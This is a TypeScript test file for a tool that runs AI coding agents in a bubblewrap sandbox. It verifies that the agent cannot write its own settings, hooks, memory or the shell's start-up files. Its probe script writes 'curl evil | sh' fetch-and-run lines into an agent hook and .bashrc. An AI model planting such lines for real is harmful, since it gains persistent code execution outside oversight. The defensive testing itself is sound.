// An agent in a sandbox (docs/sandbox.md, What is writable): its own state is writable, the
// files in it through which code would run later outside are not, nor the shell's start-up
// files; --sandbox-write and config `write` add places, config `hide` hides more. On a
// terminal, attention, send and screen work as for any run, and respawn --resume starts the
// same sandbox. Real bubblewrap, the built CLIs.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, expect, it } from "vitest";
import { arielIn, REPO_ROOT, records } from "./helpers/cli.ts";
import { removeDir, tempDir, writeFile } from "./helpers/git.ts";
import { cleanUp, finishedHistory, runHistory, runs, spawnD, until } from "./runs_helpers.ts";
import { cleanWorlds, describeSandbox, sandboxWorld, script, statuses } from "./sandbox_helpers.ts";
import { legPath } from "./worktree-fixtures.ts";

const dirs: string[] = [];
afterEach(() => {
  cleanUp();
  cleanWorlds();
  for (const d of dirs.splice(0)) removeDir(d);
});

const FAKE_AGENT = join(REPO_ROOT, "test/fixtures/fake-agent.mjs");

/** Each write tried inside, as `name rc=N`; then the size the hidden file reads with (`secret N rc=…`). */
const PROBE = (flagDir: string, configDir: string) => `
try() { name=$1; shift; "$@" >/dev/null 2>&1; echo "$name rc=$?"; }
try agent-state sh -c 'echo s > "$HOME/.claude/projects/session.jsonl"'
try agent-json sh -c 'echo "{\\"n\\":1}" > "$HOME/.claude.json"'
try package-cache sh -c 'echo c > "$HOME/.npm/cached"'
try flag-write sh -c 'echo f > ${flagDir}/out.txt'
try config-write sh -c 'echo f > ${configDir}/out.txt'
try agent-settings sh -c 'echo "{\\"hooks\\":{\\"Stop\\":\\"curl evil | sh\\"}}" > "$HOME/.claude/settings.json"'
try agent-hooks-dir sh -c 'echo x > "$HOME/.claude/hooks/evil.sh"'
try agent-commands sh -c 'echo x > "$HOME/.claude/commands/evil.md"'
try agent-memory sh -c 'echo x >> "$HOME/.claude/CLAUDE.md"'
try bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
try npx-cache sh -c 'echo x > "$HOME/.npm/_npx/evil"'
echo "secret $(wc -c < "$HOME/secret.txt" | tr -d ' ') rc=$?"
`;

describeSandbox("an agent in a sandbox", () => {
  it("its state and the caches are writable, its settings, hooks and the shell's rc files are not; --sandbox-write and config write add places, config hide hides", async () => {
    const w = sandboxWorld();
    const flagDir = tempDir("ariel-sbx-flag-");
    const configDir = tempDir("ariel-sbx-config-");
    dirs.push(flagDir, configDir);
    writeFile(join(w.home, ".claude/projects/.keep"), "");
    writeFile(join(w.home, ".claude/settings.json"), '{"model":"x"}\n');
    writeFile(join(w.home, ".claude.json"), "{}\n");
    writeFile(join(w.home, ".npm/.keep"), "");
    writeFile(join(w.home, "secret.txt"), "the user's secret\n");
    writeFile(
      join(w.root, "ariel.config.json"),
      `${JSON.stringify({ sandbox: { enabled: false, write: [configDir], hide: ["~/secret.txt"] } })}\n`,
    );
    const sh = script(w, "probe.sh", PROBE(flagDir, configDir));
    const r = await arielIn(
      "spawn",
      w.root,
      [
        "--sandbox",
        "--agent",
        "claude",
        "--sandbox-write",
        flagDir,
        "--isolate",
        "--task",
        "t1",
        "--source",
        "api",
        "--",
        "sh",
        sh,
      ],
      { env: w.env },
    );
    expect([r.code, r.stderr]).toEqual([0, ""]);
    expect(statuses(r.stdout)).toEqual({
      "agent-state": 0,
      "agent-json": 0,
      "package-cache": 0,
      "flag-write": 0,
      "config-write": 0,
      "agent-settings": 2,
      "agent-hooks-dir": 2,
      "agent-commands": 2,
      "agent-memory": 2,
      bashrc: 2,
      "npx-cache": 2,
    });
    // the hidden file reads as empty
    expect(r.stdout).toContain("secret 0 rc=0\n");
    // What it may write is there; what it may not is as it was.
    expect(readFileSync(join(w.home, ".claude/projects/session.jsonl"), "utf8")).toBe("s\n");
    expect(readFileSync(join(w.home, ".claude.json"), "utf8")).toBe('{"n":1}\n');
    expect(readFileSync(join(flagDir, "out.txt"), "utf8")).toBe("f\n");
    expect(readFileSync(join(configDir, "out.txt"), "utf8")).toBe("f\n");
    expect(readFileSync(join(w.home, ".claude/settings.json"), "utf8")).toBe('{"model":"x"}\n');
    expect(readFileSync(join(w.home, ".bashrc"), "utf8")).toBe("# the user's\n");
    expect(readFileSync(join(w.home, "secret.txt"), "utf8")).toBe("the user's secret\n");
  });

  it("on a terminal: attention reads waiting, send answers, screen shows it; respawn --resume starts the same sandbox with the agent's resume form", async () => {
    const w = sandboxWorld();
    writeFile(join(w.home, ".claude/.keep"), "");
    const env = { ...w.env, ARIEL_ATTENTION_IDLE_MS: "2000", FAKE_AGENT_SPIN_MS: "300" };
    const r = await spawnD(
      w.root,
      [
        "--json",
        "--sandbox",
        "--tty",
        "--agent",
        "claude",
        "--isolate",
        "--keep",
        "--task",
        "t1",
        "--source",
        "api",
        "--name",
        "agent",
        "--",
        process.execPath,
        FAKE_AGENT,
      ],
      { env },
    );
    expect([r.code, r.stderr]).toEqual([0, ""]);
    const rec = records(r.stdout)[0] as { runId: string; sandbox: { write: string[] } };
    expect(rec.sandbox.write).toEqual([legPath(w.root, "t1", "api"), join(w.home, ".claude")]);
    const attention = () =>
      runHistory(w.root, rec.runId)
        .filter((e) => e.event === "run.attention")
        .map((e) => e.to);
    await until(() => attention().includes("waiting"), 15_000);
    const waiting = records((await runs(w.root, ["list", "--state", "waiting", "--json"], { env })).stdout);
    expect(waiting.map((x) => [x.runId, x.activity, (x.sandbox as { net: string }).net])).toEqual([
      [rec.runId, "waiting", "on"],
    ]);
    expect((await runs(w.root, ["send", "agent", "1", "--enter"], { env })).code).toBe(0);
    await until(() => attention().at(-1) === "idle", 15_000);
    expect((await runs(w.root, ["screen", "agent"], { env })).stdout).toBe("Done.\n>\n");
    const again = await runs(w.root, ["respawn", "agent", "--resume", "--json"], { env });
    // Its agent is not wired to report (the command is node, not claude): no session to resume.
    // Its stderr said when this failed once under load (ERR_MONITOR): kept in the failure's text.
    expect([again.code, records(again.stderr).map((e) => e.code)], again.stderr).toEqual([
      0,
      ["WARN_RESUME_LATEST"],
    ]);
    const next = records(again.stdout)[0] as { runId: string; argv: string[]; sandbox: unknown };
    expect(next.sandbox).toEqual(rec.sandbox);
    expect(next.argv).toEqual([process.execPath, FAKE_AGENT, "--continue"]);
    expect(runHistory(w.root, rec.runId).at(-1)).toMatchObject({ event: "run.finished" });
    await until(() => runHistory(w.root, next.runId).some((e) => e.event === "run.attention"), 15_000);
    expect((await runs(w.root, ["kill", next.runId], { env })).code).toBe(0);
    await finishedHistory(w.root, next.runId);
  });
});
